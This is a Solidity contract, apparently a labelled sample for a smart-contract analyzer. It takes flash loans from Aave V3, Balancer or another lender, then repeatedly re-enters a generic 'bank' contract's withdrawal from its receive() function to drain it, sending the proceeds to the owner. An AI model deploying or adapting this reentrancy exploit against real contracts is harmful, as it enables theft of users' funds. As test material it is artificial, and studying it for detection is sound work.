// SPDX-License-Identifier: BSD-3-Clause
// provider: aave_v3_simple
// family: reenter
// contract: Chooser
// shows: entry callback address
// since: 0.6
// arguments: 0x0000000000000000000000009999000000000000000000000000000000009999
// Tries one lender after the other until one has the funds; answers all of them.
pragma solidity >=0.6.2 <0.9.0;

interface ILenders {
	function flashLoanSimple(address, address, uint256, bytes calldata, uint16) external;
	function flashLoan(address, address[] calldata, uint256[] calldata, bytes calldata) external;
	function flashLoan(address, address, uint256, bytes calldata) external returns (bool);
}
interface IW { function withdraw(uint256) external; function deposit() external payable; function approve(address, uint256) external returns (bool); function transfer(address, uint256) external returns (bool); }
interface IBank { function put() external payable; function out(uint256) external; }

contract Chooser {
	address constant A3 = 0x87870Bca3F3fD6335C3F4ce8392D69350B4fA4E2;
	address constant B2 = 0xBA12222222228d8Ba445958a75a0704d566BF2C8;
	address constant W10 = 0xf4BB2e28688e89fCcE3c0580D37d36A7672E8A9F;
	IW constant W = IW(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
	IBank bank;
	address payable owner;
	uint8 rounds;

	constructor(IBank b) public { bank = b; owner = msg.sender == address(0) ? payable(address(this)) : payable(msg.sender); }

	function go(uint256 n) external {
		address[] memory t = new address[](1);
		uint256[] memory a = new uint256[](1);
		t[0] = address(W);
		a[0] = n;
		try ILenders(A3).flashLoanSimple(address(this), address(W), n, "", 0) {} catch {
			try ILenders(B2).flashLoan(address(this), t, a, "") {} catch { ILenders(W10).flashLoan(address(this), W10, n, bytes("")); }
		}
		owner.transfer(address(this).balance);
	}

	function executeOperation(address, uint256 n, uint256 fee, address, bytes calldata) external returns (bool) { _work(n); W.approve(A3, n + fee); return true; }
	function receiveFlashLoan(address[] calldata, uint256[] calldata n, uint256[] calldata, bytes calldata) external { _work(n[0]); W.transfer(B2, n[0]); }
	function onFlashLoan(address, address, uint256 n, uint256, bytes calldata) external returns (bytes32) { _work(n); return keccak256("ERC3156FlashBorrower.onFlashLoan"); }

	function _work(uint256 n) private {
		W.withdraw(n);
		rounds = 6;
		bank.put{value: n}();
		bank.out(n);
		W.deposit{value: n + 1 ether}();
	}

	receive() external payable { if (msg.sender == address(bank) && rounds-- > 0) bank.out(msg.value); }
}
